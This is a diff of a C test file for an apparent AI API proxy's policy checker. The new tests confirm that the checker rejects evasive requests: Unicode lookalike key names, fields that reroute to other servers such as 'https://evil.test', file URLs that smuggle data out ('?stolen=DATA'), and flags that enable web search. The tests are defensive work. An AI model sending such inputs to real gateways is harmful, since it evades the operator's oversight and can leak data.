@@ -310,11 +310,17 @@ static void what_a_reply_may_have_is_read_from_the_body(void)
 		{{ANTHROPIC, M, "{\"model\":\"claude-x\",\"max_completion_tokens\":1}"}, 4096},
 		{{ANTHROPIC, M, "{\"model\":\"claude-x\",\"max_tokens\":null}"}, 4096},
 		{{ANTHROPIC, M, "{\"model\":\"claude-x\",\"max_tokens\":-5}"}, 4096},
-		{{ANTHROPIC, M, "{\"model\":\"claude-x\",\"max_tokens\":\"5\"}"}, 4096},
 		{{ANTHROPIC, M, "{\"model\":\"claude-x\",\"max_tokens\":1e300}"}, USAGE_MAX},
 		{{OPENAI, C, "{\"model\":\"gpt-4o\",\"max_tokens\":1,\"max_completion_tokens\":70}"}, 70},
 		{{OPENAI, C, "{\"model\":\"gpt-4o\",\"max_tokens\":7,\"n\":10}"}, 70},
 		{{OPENAI, C, "{\"model\":\"gpt-4o\",\"n\":2,\"max_output_tokens\":1}"}, 8192},
+		{{OPENAI, C, "{\"model\":\"gpt-4o\",\"max_tokens\":7,\"num_return_sequences\":10}"}, 70},
+		{{OPENAI, C, "{\"model\":\"gpt-4o\",\"max_tokens\":1,\"n_predict\":-1}"}, 4096},
+		{{OPENAI, "/v1/completions", "{\"model\":\"gpt-4o\",\"max_tokens\":8,\"prompt\":\"x\"}"}, 8},
+		{{OPENAI, "/v1/completions", "{\"model\":\"gpt-4o\",\"max_tokens\":8,\"prompt\":[1,2,3]}"}, 8},
+		{{OPENAI, "/v1/completions", "{\"model\":\"gpt-4o\",\"max_tokens\":8,\"prompt\":[\"a\",\"b\",\"c\"]}"}, 24},
+		{{OPENAI, "/v1/completions", "{\"model\":\"gpt-4o\",\"max_tokens\":8,\"prompt\":[[1,2],[3]],\"prompt_embeds\":[\"a\"],\"n\":2,\"best_of\":5}"}, 120},
+		{{OPENAI, "/v1/completions", "{\"model\":\"gpt-4o\",\"max_tokens\":8,\"prompt\":[]}"}, 8},
 		{{OPENAI, R, "{\"model\":\"gpt-4o\",\"max_output_tokens\":99,\"max_tokens\":1}"}, 99},
 		{{OPENAI, "/v1/embeddings", "{\"model\":\"text-embedding-3-large\",\"input\":\"x\"}"}, 0},
 		{{ANTHROPIC, M "/count_tokens", "{\"model\":\"claude-x\",\"messages\":[]}"}, 0},
@@ -353,12 +359,126 @@ static void models_that_search_by_themselves_are_server_tools(void)
 	CHECK(judge(VLLM, C, "{\"model\":\"my-search-model\",\"messages\":[]}", &body, &j, &no) == 0);
 }
 
+static void each_denied(const struct request *v, size_t n, uint16_t status)
+{
+	AUTO_BUF body = {0};
+	struct judged j;
+	struct ruling no;
+	size_t i;
+
+	buf_init(&body, 1 << 20);
+	for (i = 0; i < n; i++) {
+		int r = judge(v[i].provider, v[i].target, v[i].body, &body, &j, &no);
+
+		if (r == 0 || no.status != status)
+			printf("# %s %s: %d %s\n", v[i].target, v[i].body ? v[i].body : "GET", no.status, no.detail);
+		CHECK(r < 0 && no.status == status && no.detail[0] && no.hint[0]);
+	}
+}
+
+#define EACH_DENIED(v, status) each_denied(v, sizeof(v) / sizeof((v)[0]), status)
+
+static void a_number_in_text_asks_for_no_more_than_is_reserved(void)
+{
+	static const struct request v[] = {
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"max_tokens\":8,\"n\":\"100\"}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"max_tokens\":\"100000\"}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"max_tokens\":[100000]}"},
+		{OPENAI, "/v1/completions", "{\"model\":\"gpt-4o\",\"best_of\":\"100\"}"},
+		{ANTHROPIC, M, "{\"model\":\"claude-x\",\"max_tokens\":\"5\"}"},
+		{GEMINI, G, "{\"contents\":[],\"generationConfig\":{\"candidateCount\":\"8\"}}"},
+		{GEMINI, G, "{\"contents\":[],\"generation_config\":{\"candidate_count\":true}}"},
+	};
+	static const struct request alike[] = {
+		{ANTHROPIC, M, "{\"model\":\"claude-x\",\"max_tokens\":8,\"max_to\xe2\x84\xaa" "ens\":100000}"},
+		{ANTHROPIC, M, "{\"model\":\"claude-x\",\"max_tokens\":8,\"max_to\\u212aens\":100000}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"max_tokens\":8,\"MAX_TOKENS\":100000}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"N\":100}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"best_o\\u0066\":1,\"be\\u017ft_of\":100}"},
+		{GEMINI, G, "{\"contents\":[],\"generationConfig\":{\"maxOutputTokens\":8,\"maxOutputTo\\u212aens\":100000}}"},
+	};
+
+	EACH_DENIED(v, RULING_MALFORMED);
+	EACH_DENIED(alike, RULING_DENIED);
+}
+
+static void no_field_leads_to_another_model_or_server(void)
+{
+	static const char *const fields[] = {
+		"\"fallbacks\":[{\"model\":\"other\"}]", "\"fallbacks\":[\"other\"]", "\"Fallbacks\":[\"other\"]", "\"models\":[\"other\"]", "\"modelS\":[\"other\"]", "\"context_window_fallbacks\":[{\"a\":[\"b\"]}]",
+		"\"preset\":\"p\"", "\"route\":\"fallback\"", "\"provider\":{\"order\":[\"x\"]}", "\"user_config\":{}", "\"api_base\":\"https://evil.test\"", "\"base_url\":\"https://evil.test\"", "\"baseUrl\":\"https://evil.test\"",
+		"\"custom_llm_provider\":\"x\"", "\"deployment_id\":\"x\"", "\"extra_body\":{\"x\":1}", "\"whatever\":{\"model\":\"other\"}", "\"whatever\":[{\"a\":{\"Model\":\"other\"}}]", "\"whatever\":{\"draft_model\":\"other\"}",
+		"\"draft_model\":\"other\"", "\"context_management\":{\"edits\":[{\"type\":\"compact\",\"model\":\"other\"}]}", "\"x\":{\"models\":[\"other\"]}", "\"x\":{\"y\":[{\"api_base\":\"https://evil.test\"}]}",
+	};
+	static const struct request names[] = {
+		{OPENAI, C, "{\"model\":\"gpt-4o@preset/x\"}"}, {FREE_OPENAI, C, "{\"model\":\"m@preset/x\"}"}, {FREE_OPENAI, C, "{\"model\":\"@preset/x\"}"}, {FREE, M, "{\"model\":\"m@PRESET/x\"}"},
+		{FREE, M, "{\"model\":\"m\",\"provider\":{}}"}, {FREE, M, "{\"model\":\"m\",\"fallbacks\":[{\"model\":\"n\"}]}"},
+	};
+	char text[400];
+	AUTO_BUF body = {0};
+	struct judged j;
+	struct ruling no;
+	size_t i, k;
+
+	buf_init(&body, 1 << 20);
+	for (i = 0; i < sizeof(fields) / sizeof(fields[0]); i++)
+		for (k = 0; k < 2; k++) {
+			(void)snprintf(text, sizeof(text), "{\"model\":\"%s\",%s,\"messages\":[]}", k ? "gpt-4o" : "claude-x", fields[i]);
+			if (judge(k ? OPENAI : ANTHROPIC, k ? C : M, text, &body, &j, &no) == 0 || no.status != RULING_DENIED)
+				printf("# %s: %d %s\n", text, no.status, no.detail);
+			CHECK(no.status == RULING_DENIED && no.hint[0]);
+		}
+	EACH_DENIED(names, RULING_DENIED);
+	/* one that the policy allows, and what only looks like it */
+	CHECK(judge(ANTHROPIC, M, "{\"model\":\"claude-x\",\"context_management\":{\"edits\":[{\"type\":\"compact\",\"model\":\"claude-y\"}]},\"metadata\":{\"model\":\"mine\"},\"fallbacks\":[]}", &body, &j, &no) == 0);
+	CHECK(judge(OPENAI, C, "{\"model\":\"gpt-4o\",\"response_format\":{\"type\":\"json_schema\",\"json_schema\":{\"schema\":{\"properties\":{\"model\":{\"const\":\"T\"},\"models\":{}}}}},\"models\":null,\"reasoning\":{\"effort\":\"low\"}}", &body, &j, &no) == 0);
+	CHECK(judge(OPENAI, R, "{\"model\":\"gpt-5\",\"input\":[{\"role\":\"user\",\"content\":\"x\",\"model\":\"T\"}],\"text\":{\"format\":{\"type\":\"json_schema\",\"schema\":{\"enum\":[{\"model\":\"T\"}]}}},\"instructions\":\"x\"}", &body, &j, &no) == 0);
+}
+
+static void the_provider_is_not_told_to_fetch_or_search(void)
+{
+	static const struct request v[] = {
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"messages\":[{\"content\":[{\"type\":\"file\",\"file\":{\"file_data\":\"https://evil.test/?stolen=DATA\"}}]}]}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"messages\":[{\"content\":[{\"type\":\"file\",\"file\":{\"file_data\":\" https://evil.test\"}}]}]}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"messages\":[{\"content\":[{\"type\":\"file\",\"file\":{\"fileData\":\"https://evil.test\"}}]}]}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"messages\":[{\"content\":[{\"type\":\"file\",\"file\":{\"file_data\":[\"gs://evil\"]}}]}]}"},
+		{OPENAI, R, "{\"model\":\"gpt-5\",\"input\":[{\"content\":[{\"type\":\"input_file\",\"file_data\":\"s3://evil/x\"}]}]}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"messages\":[{\"content\":[{\"type\":\"input_audio\",\"input_audio\":{\"data\":\"https://evil.test\"}}]}]}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"messages\":[{\"content\":[{\"type\":\"video\",\"video\":[\"AA\",\"https://evil.test\"]}]}]}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"messages\":[{\"content\":[{\"type\":\"document_url\",\"document_url\":\"https://evil.test\"}]}]}"},
+		{ANTHROPIC, M, "{\"model\":\"claude-x\",\"messages\":[{\"content\":[{\"type\":\"image\",\"source\":{\"type\":\"base64\",\"data\":\"https://evil.test\"}}]}]}"},
+		{ANTHROPIC, M, "{\"model\":\"claude-x\",\"messages\":[{\"content\":[{\"type\":\"image\",\"source\":{\"type\":\"base64\",\"data\":\"AA\",\"url\":\"https://evil.test\"}}]}]}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"enable_search\":true}"}, {OPENAI, C, "{\"model\":\"gpt-4o\",\"enableSearch\":true}"}, {OPENAI, C, "{\"model\":\"gpt-4o\",\"web_search\":true}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"search_parameters\":{}}"}, {OPENAI, C, "{\"model\":\"gpt-4o\",\"dataSources\":[{}]}"}, {OPENAI, C, "{\"model\":\"gpt-4o\",\"compound_custom\":{}}"},
+		{OPENAI, C, "{\"model\":\"gpt-4o\",\"venice_parameters\":{\"enable_web_search\":\"on\"}}"}, {OPENAI, C, "{\"model\":\"gpt-4o\",\"connectors\":[{\"id\":\"web-search\"}]}"},
+		{ANTHROPIC, M, "{\"model\":\"claude-x\",\"plugins\":[{\"id\":\"web\"}]}"}, {ANTHROPIC, M, "{\"model\":\"claude-x\",\"web_search_options\":{}}"}, {ANTHROPIC, M, "{\"model\":\"claude-x\",\"McpServers\":[{}]}"},
+		{VLLM, C, "{\"model\":\"m:enable_web_search=on&enable_web_scraping=true\"}"}, {VLLM, C, "{\"model\":\"m:x=on\"}"}, {ANTHROPIC, M, "{\"model\":\"claude-x:online\"}"},
+	};
+
+	EACH_DENIED(v, RULING_DENIED);
+}
+
+static void what_a_list_of_models_takes_passes_nowhere_else(void)
+{
+	static const struct request v[] = {
+		{ANTHROPIC, M "?after_id=x", "{\"model\":\"claude-x\"}"}, {ANTHROPIC, "/v1/models/claude-x?after_id=x", NULL}, {ANTHROPIC, "/v1/models?limit=DATA", NULL},
+		{ANTHROPIC, "/v1/models?data=DATA", NULL}, {GEMINI, G "?pageToken=x", "{}"}, {GEMINI, "/v1beta/models?pageSize=1x", NULL},
+	};
+
+	EACH_DENIED(v, RULING_DENIED);
+	CHECK(endpoint_drops_header(sv_of("x-portkey-config")) && endpoint_drops_header(sv_of("helicone-target-url")));
+}
+
 int main(void)
 {
 	static const struct check_case cases[] = {
 		CASE(requests_of_real_clients_pass),
 		CASE(what_policy_forbids_is_denied),
 		CASE(what_cannot_be_judged_is_refused),
+		CASE(a_number_in_text_asks_for_no_more_than_is_reserved),
+		CASE(no_field_leads_to_another_model_or_server),
+		CASE(the_provider_is_not_told_to_fetch_or_search),
+		CASE(what_a_list_of_models_takes_passes_nowhere_else),
 		CASE(openai_streams_are_asked_for_usage),
 		CASE(a_second_judge_agrees_and_changes_nothing),
 		CASE(the_first_route_chooses_the_provider),
